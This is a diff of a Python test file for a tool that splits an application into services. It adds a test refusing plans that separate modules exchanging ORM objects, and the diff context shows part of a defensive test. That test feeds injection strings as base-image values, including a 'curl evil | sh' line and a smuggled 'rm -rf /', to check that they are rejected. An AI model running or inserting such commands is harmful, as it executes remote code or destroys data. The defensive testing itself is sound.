@@ -235,6 +235,21 @@ def test_service_names_are_validated(tmp_path):
     assert r.exit_code == 2 and not (tmp_path / "o").exists()
 
 
+def test_edited_plan_splitting_a_live_object_call_is_refused(tmp_path):
+    """search_products() hands ORM rows to product_to_dict(): that call cannot become HTTP."""
+    from decompose.planfile import save_plan
+
+    plan = reference_plan()
+    plan.services["catalog"].modules.remove("shop.catalog.search")
+    plan.services["inventory"].modules.append("shop.catalog.search")
+    save_plan(plan, tmp_path / "decompose.yaml")
+    r = CliRunner().invoke(app, ["generate", "--plan", str(tmp_path / "decompose.yaml"), "--output", str(tmp_path / "o")])
+    assert r.exit_code == 2
+    assert "shop.catalog.search (service inventory) and shop.catalog.service (service catalog) must be in one service" in r.output
+    assert "product_to_dict" in r.output and "ORM model shop.catalog.models.Product" in r.output
+    assert not (tmp_path / "o").exists()  # rejected before anything is written
+
+
 def test_base_image_cannot_inject_dockerfile_lines(plan_file, tmp_path):
     for image in ("python:3.11-slim\nRUN curl evil | sh", "python:3.11 AS x", "", "python:latest; rm -rf /"):
         r = CliRunner().invoke(app, ["generate", "--plan", str(plan_file), "--output", str(tmp_path / "o"),
